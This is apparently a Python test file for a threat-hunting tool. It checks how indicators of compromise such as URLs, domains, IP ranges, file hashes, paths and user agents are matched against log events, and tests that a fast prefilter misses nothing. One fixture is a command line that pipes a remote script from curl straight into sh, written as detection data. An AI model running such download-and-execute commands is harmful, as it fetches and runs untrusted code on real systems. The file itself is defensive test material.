"""What an indicator matches, and what it must not; the first look at bytes never misses what the exact look finds."""

import json
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wardround.core.hunts.indicators import IndicatorSet, read_indicators
from wardround.core.logs import Event, Kind
from wardround.core.logs._access import access_event

MD5, SHA256 = "9e107d9d372bb6826bd81d3542a419d6", "ab" * 31 + "cd"


def a_set(*lines: str) -> IndicatorSet:
    got = read_indicators([("list", "\n".join(lines).encode())])
    assert not got.problems
    return got


def event(**fields: Any) -> Event:
    return Event(1, time=None, kind=Kind("", ""), fields={k.replace("__", "-"): (v,) for k, v in fields.items()}, text="")


def found(indicators: IndicatorSet, **fields: Any) -> list[tuple[str, str]]:
    return [(match.indicator.value, match.field) for match in indicators.matches(event(**fields))]


URL = "https://storage.example/bucket/agent.sh?v=1"


@pytest.mark.parametrize(
    "logged",
    [
        {"url": URL},
        {"url": "HTTPS://Storage.Example:443/bucket/agent.sh?v=1#x"},
        {"url": "https://storage.example/bucket/%61gent.sh?v=%31"},
        {"url": "https://storage.example/other/../bucket/./agent.sh?v=1"},
        {"url": "storage.example/bucket/agent.sh?v=1"},
        {"CommandLine": f'bash -c "curl -s {URL} | sh"'},
        {"message": f"fetched ({URL})."},
        {"cs__host": "storage.example", "c__uri": "/bucket/agent.sh?v=1"},
    ],
)
def test_a_full_url_matches_the_whole_url(logged: dict[str, str]) -> None:
    assert [value for value, _ in found(a_set(URL), **logged)] == [URL]


@pytest.mark.parametrize(
    "logged",
    [
        {"url": "https://storage.example/"},
        {"url": "https://storage.example/exams/results.pdf"},
        {"url": "http://storage.example/bucket/agent.sh?v=1"},
        {"url": "https://storage.example/bucket/agent.sh"},
        {"url": "https://storage.example/bucket/agent.sh?v=1&w=2"},
        {"url": "https://storage.example/BUCKET/agent.sh?v=1"},
        {"url": "https://not-storage.example/bucket/agent.sh?v=1"},
        {"url": "https://storage.example:8443/bucket/agent.sh?v=1"},
        {"QueryName": "storage.example"},
        {"c__uri": "/bucket/agent.sh?v=1"},
        {"cs__host": "storage.example", "c__uri": "/exams/results.pdf"},
    ],
)
def test_a_host_that_others_use_too_never_matches_alone(logged: dict[str, str]) -> None:
    """FACTS 8: the cloud host of a payload also serves an unrelated government's exam papers."""
    assert found(a_set(URL), **logged) == []


def test_without_a_scheme_a_url_stands_for_either() -> None:
    indicators = a_set("evil.example/a.sh")
    assert found(indicators, url="http://evil.example/a.sh") == found(indicators, url="https://evil.example/a.sh") != []


@pytest.mark.parametrize(
    ("name", "matches"),
    [
        ("evil.example", True),
        ("www.EVIL.example.", True),
        ("notevil.example", False),
        ("evil.example.org", False),
        ("https://a.evil.example/x?y", True),
        ("mail to someone@evil.example, now", True),
    ],
)
def test_a_domain_matches_itself_and_what_is_below_it(name: str, matches: bool) -> None:
    assert bool(found(a_set("evil.example"), QueryName=name)) is matches


@pytest.mark.parametrize(
    ("value", "matches"),
    [
        ("203.0.113.7", True),
        ("203.0.113.7:51234", True),
        ("::ffff:203.0.113.7", True),
        ("::ffff:cb00:7107", True),
        ("Failed password for root from 203.0.113.7 port 22", True),
        ("http://203.0.113.7/a", True),
        ("203.0.113.70", False),
        ("1203.0.113.7", False),
        ("203.0.113.7.9", False),
        ("Agent/203.0.113.7", False),
    ],
)
def test_an_address_is_the_whole_address(value: str, matches: bool) -> None:
    assert bool(found(a_set("203.0.113.7"), src_ip=value)) is matches
    assert bool(found(a_set("203.0.113.4/30"), src_ip=value)) is matches


def test_a_version_is_no_address() -> None:
    assert found(a_set("203.0.113.7"), FileVersion="203.0.113.7") == []


def test_networks_hold_addresses_of_both_versions() -> None:
    indicators = a_set("198.51.100.0/25", "2001:db8:1::/48")
    assert found(indicators, src_ip="198.51.100.127", dst_ip="2001:db8:1:2::3") == [
        ("198.51.100.0/25", "src_ip"),
        ("2001:db8:1::/48", "dst_ip"),
    ]
    assert found(indicators, src_ip="198.51.100.128", dst_ip="2001:db8:2::3") == []


def test_hashes_of_sysmon_are_told_apart() -> None:
    indicators = a_set(MD5, SHA256)
    assert found(indicators, Hashes=f"MD5={MD5.upper()},SHA256={SHA256.upper()},IMPHASH={'0' * 31}1") == [
        (MD5, "Hashes"),
        (SHA256, "Hashes"),
    ]
    assert found(indicators, Hashes=f"IMPHASH={MD5}") == found(indicators, Imphash=MD5) == found(indicators, id=f"x{MD5}") == []
    imphash = read_indicators([("l", f"type,value\nimphash,{MD5}\n".encode())])
    assert found(imphash, Hashes=f"MD5={'1' * 31}2,IMPHASH={MD5}") == [(MD5, "Hashes")]
    assert found(imphash, Hashes=f"MD5={MD5}") == []


@pytest.mark.parametrize(
    ("indicator", "value", "matches"),
    [
        (r"C:\Windows\Temp\evil.exe", r"c:\windows\TEMP\Evil.exe", True),
        (r"C:\Windows\Temp\evil.exe", r'"C:\Windows\Temp\evil.exe" -k', True),
        (r"C:\Windows\Temp\evil.exe", r"C:\Windows\Temp\evil.exe.config", False),
        (r"%TEMP%\evil.exe", r"C:\Windows\Temp\evil.exe", True),
        ("/tmp/web-install.jar", "java -jar /tmp/web-install.jar", True),
        ("/tmp/web-install.jar", "/var/tmp/web-install.jar", False),
        ("/tmp/web-install.jar", "/tmp/Web-install.jar", False),
        ("/tmp/web-install.jar", "/tmp/web-install.jar/x", False),
        ("mibasecss.css", "/mifs/css/mibasecss.css", True),
        ("mibasecss.css", "/mifs/css/mibasecss.css?x=1", True),
        ("mibasecss.css", "/mifs/css/oldmibasecss.css", False),
        ("evil.dll", r"C:\x\EVIL.DLL", True),
    ],
)
def test_paths_and_files_names_are_whole(indicator: str, value: str, matches: bool) -> None:
    assert bool(found(a_set(indicator), Image=value)) is matches


def test_a_user_agent_is_whole_and_stands_in_its_field() -> None:
    indicators = a_set("Fictitious/1.0 (scan)")
    assert found(indicators, cs__user__agent="Fictitious/1.0 (scan)") == [("Fictitious/1.0 (scan)", "cs-user-agent")]
    assert (
        found(indicators, cs__user__agent="Fictitious/1.0 (scan) more") == found(indicators, message="Fictitious/1.0 (scan)") == []
    )


def test_a_pattern_needs_all_its_parts_in_one_event() -> None:
    pattern = f"[file:name = 'a.exe' AND file:hashes.MD5 = '{MD5}']"
    bundle = json.dumps({"type": "bundle", "objects": [{"type": "indicator", "pattern": pattern}]})
    indicators = read_indicators([("b", bundle.encode())])
    assert [field for _, field in found(indicators, Image=r"C:\a.exe", Hashes=f"MD5={MD5}")] == ["Hashes, Image"]
    assert found(indicators, Image=r"C:\a.exe") == found(indicators, Hashes=f"MD5={MD5}") == []


def test_a_match_says_what_it_rests_on() -> None:
    (match,) = a_set("198.51.100.0/24").matches(event(c__ip="198.51.100.7"))
    assert (match.field, match.found, match.how) == ("c-ip", "198.51.100.7", "198.51.100.7 is in the network")


def test_where_a_type_has_no_place_it_was_not_looked_for() -> None:
    indicators = a_set(MD5, "203.0.113.7", URL, "evil.example", "Fictitious/1.0")
    access = access_event(1, '203.0.113.9 - - [15/May/2025:03:12:44 +0100] "GET / HTTP/1.1" 200 5 "-" "x"')
    assert access is not None
    assert sorted(indicators.sought_in(access.fields)) == ["domain", "ip", "url", "user-agent"]
    assert sorted(indicators.sought_in(["Hashes", "Description"])) == ["md5"]


LISTED = [MD5, SHA256, "203.0.113.7", "198.51.100.0/24", "2001:db8::7", "2001:db8:5::/48", "evil.example", URL]
LISTED += [
    "xn--bcher-kva.example",
    "evil2.example/a%20b",
    "http://[2001:db8:9::1]/x",
    r"C:\Temp\Évil tool.exe",
    "/tmp/web-install.jar",
]
LISTED += ["mibasecss.css", "Fictitious/1.0 (scan; x)"]
OTHER_FORMS = [
    "bücher.example",
    "BÜCHER.EXAMPLE",
    "ⓔvil.example",
    "\u212aevil.example",
    "::ffff:cb00:7107",
    "0:0:0:0:0:ffff:cb00:7107",
]
OTHER_FORMS += ["198.51.100.77", "2001:DB8:0:0:0:0:0:7", "2001:db8:5:1:2:3:4:5", "2001:db8:5::198.51.100.7", "a.evil.example"]
OTHER_FORMS += ["http://[2001:DB8:9:0::1]/x", "ev\\il.example", "storage.example", "/bucket/agent.sh?v=1", MD5.upper()]
SIGNS = ["https://", "\\", " ", '"', "/", "%", "C:\\", "é", "\n", ":", ".", "IMPHASH=", "1", "a"]
ALL = a_set(*LISTED)
PIECES = st.sampled_from([*LISTED, *OTHER_FORMS, *SIGNS])
TEXTS = st.lists(PIECES | st.text(max_size=3), max_size=6).map("".join)
ENCODED = st.tuples(TEXTS, st.integers(0, 2)).map(lambda t: t[0] if not t[1] else quote(t[0]) if t[1] == 1 else quote(quote(t[0])))
FIELDS = st.sampled_from(["c-ip", "Hashes", "Image", "url", "cs-host", "c-uri", "QueryName", "cs-user-agent", "message"])


@settings(max_examples=400, deadline=None)
@given(st.dictionaries(FIELDS, TEXTS, max_size=4), st.booleans())
def test_the_first_look_never_misses_a_record(fields: dict[str, str], ascii_only: bool) -> None:
    record = json.dumps(fields, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass")
    made = Event(1, time=None, kind=Kind("", ""), fields={name: (value,) for name, value in fields.items()}, text="")
    if ALL.matches(made):
        assert ALL.suspects(record)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.tuples(ENCODED, ENCODED, ENCODED), min_size=1, max_size=4))
def test_the_first_look_never_misses_a_line(parts: list[tuple[str, str, str]]) -> None:
    made = []
    for target, referrer, agent in parts:
        flat = [text.replace("\n", " ").replace("\r", " ") for text in (target, referrer, agent)]
        made.append(f'203.0.113.9 - - [15/May/2025:03:12:44 +0100] "GET /{flat[0]} HTTP/1.1" 200 5 "{flat[1]}" "{flat[2]}"')
    raw = [line.encode("utf-8", "surrogatepass") for line in made]
    suspected = ALL.prefilter.lines(b"".join(line + b"\n" for line in raw))
    for at, line in enumerate(made):
        event = access_event(at, line)
        if event is not None and ALL.matches(event):
            assert ALL.suspects(raw[at])
            assert at in suspected


def test_the_first_look_passes_over_what_holds_nothing() -> None:
    line = b'192.0.2.9 - - [15/May/2025:03:12:44 +0100] "GET /a%20b HTTP/1.1" 200 5 "https://intranet.example/" "Mozilla/5.0"'
    assert not ALL.suspects(line)
    assert ALL.prefilter.lines(line + b"\n" + line.replace(b"192.0.2.9", b"203.0.113.7") + b"\n" + line) == [1]


@pytest.mark.parametrize("piece", ["a", "a.", "-", "f", "1.", ":", "::", "a/", "://a", "%41", "\\", "é", "203.0.113.", "MD5=", " "])
def test_a_text_made_to_take_long_takes_no_longer(piece: str) -> None:
    """Hundreds of thousands of signs of any kind: a search that grows with their square would take hours."""
    text = piece * (300_000 // len(piece))
    assert not [match for match in ALL.matches(event(message=text)) if match.indicator.type == "url"]
    ALL.suspects(text.encode())
